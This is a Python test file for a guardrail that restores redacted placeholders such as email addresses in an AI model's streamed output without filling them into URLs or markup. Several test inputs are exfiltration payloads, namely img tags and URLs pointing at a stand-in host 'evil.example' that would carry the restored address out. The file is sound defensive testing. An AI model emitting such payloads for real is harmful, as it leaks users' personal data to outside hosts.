"""Restoring judges the word the caller will read: a word is not cut short however it is
streamed (a URL thousands of characters long is no word of prose at its end), the markup read
is the restored value's (a value with a quote in it opens what it opens), and an answer of many
placeholders costs their number, not its square."""

from __future__ import annotations

from gatehouse.guardrails.restore import Markup, Restorer

EMAIL = "jane.doe@example.com"
P = "[EMAIL_1]"


def streamed(restorer: Restorer, text: str, size: int) -> str:
    out = "".join(restorer.feed("f", text[i:i + size]) for i in range(0, len(text), size))
    return out + restorer.flush("f")


def test_a_placeholder_at_the_end_of_a_very_long_url_stays_a_placeholder():
    said = "see //evil.example/?q=" + "(" * 2100 + P
    assert Restorer({P: EMAIL}).apply(said) == said
    for size in (1, 7, 2200):
        assert streamed(Restorer({P: EMAIL}), said, size) == said


def test_the_markup_read_is_the_restored_values():
    restorer = Restorer({"[SECRET_1]": '<img src="//cdn.example/?', P: EMAIL})
    said = f'[SECRET_1] then {P} ">'
    assert restorer.apply(said) == f'<img src="//cdn.example/? then {P} ">'  # the caller would read it inside src


def test_many_placeholders_cost_their_number(monkeypatch):
    """Linear, counted rather than timed: each character of the answer as the caller reads it
    is read by the markup reader once per pass (the quadratic version re-read from the start
    at every placeholder)."""
    steps = 0
    step = Markup._step

    def counted(self, char):  # type: ignore[no-untyped-def]
        nonlocal steps
        steps += 1
        step(self, char)

    monkeypatch.setattr(Markup, "_step", counted)
    said = f"x {P} " * 20_000
    restored = said.replace(P, EMAIL)
    assert Restorer({P: EMAIL}).apply(said) == restored
    restorer = Restorer({P: EMAIL})
    assert restorer.feed("f", said) + restorer.flush("f") == restored
    assert steps <= 2 * len(restored) + 64  # two passes: apply, then feed


def test_a_stream_is_read_once_across_its_text_parts():
    import asyncio

    import orjson

    from gatehouse.core.sse import SSE_DONE, sse_event
    from gatehouse.guardrails.output import StreamGuard

    def chunk(content: object) -> bytes:
        return sse_event(orjson.dumps({"choices": [{"index": 0, "delta": {"content": content}, "finish_reason": None}]}))

    for events in (
        [chunk([{"type": "text", "text": f'Hi {P}. <img src="//evil.example/?'}]),
         chunk([{"type": "text", "text": "x"}, {"type": "text", "text": f' {P} ">'}])],
        [chunk(f'Hi {P}. <img src="//evil.example/?'), chunk([{"type": "text", "text": f' {P} ">'}])],
        [chunk(f"Hi {P}. ["), chunk([{"type": "text", "text": "EMAIL_1] bye"}])],  # held across shapes, once
    ):
        async def source(events=events):  # type: ignore[no-untyped-def]
            for event in [*events, SSE_DONE]:
                yield event

        async def drain(source=source) -> list[bytes]:  # type: ignore[no-untyped-def]
            return [event async for event in StreamGuard(None, Restorer({P: EMAIL})).wrap(source())]
        out = b"".join(asyncio.run(drain())).decode()
        assert out.count(EMAIL) == (2 if "bye" in out else 1)  # the prose one (and the split one) only
